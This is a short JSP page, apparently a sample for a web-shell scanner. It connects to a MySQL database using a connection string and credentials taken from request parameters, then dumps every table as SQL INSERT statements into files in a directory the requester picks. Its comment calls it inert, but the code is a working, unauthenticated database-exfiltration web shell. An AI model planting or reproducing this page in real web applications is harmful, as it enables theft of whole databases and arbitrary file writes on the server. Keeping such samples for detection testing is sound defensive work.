<%@ page import="java.sql.*,java.io.*,java.util.*" %>
<%-- webhunt test sample (inert): copies every table of a MySQL schema into .sql files --%>
<%
    String dir = request.getParameter("to");
    Class.forName("com.mysql.jdbc.Driver");
    Connection c = DriverManager.getConnection(request.getParameter("jdbc"), request.getParameter("u"), request.getParameter("pw"));
    Statement st = c.createStatement();
    ResultSet names = st.executeQuery("SELECT table_name FROM information_schema.tables WHERE table_schema = DATABASE()");
    List<String> all = new ArrayList<String>();
    while (names.next()) all.add(names.getString(1));
    names.close();
    for (String t : all) {
        PrintWriter pw = new PrintWriter(new FileWriter(new File(dir, t + ".sql")));
        ResultSet rows = c.createStatement().executeQuery("SELECT * FROM `" + t + "`");
        int cols = rows.getMetaData().getColumnCount();
        while (rows.next()) {
            StringBuilder sb = new StringBuilder("INSERT INTO `" + t + "` VALUES(");
            for (int k = 1; k <= cols; k++) {
                sb.append(k > 1 ? "," : "").append("'").append(String.valueOf(rows.getString(k)).replace("'", "''")).append("'");
            }
            pw.println(sb.append(");"));
        }
        pw.close();
        rows.close();
    }
    c.close();
    out.println("exported " + all.size() + " tables");
%>
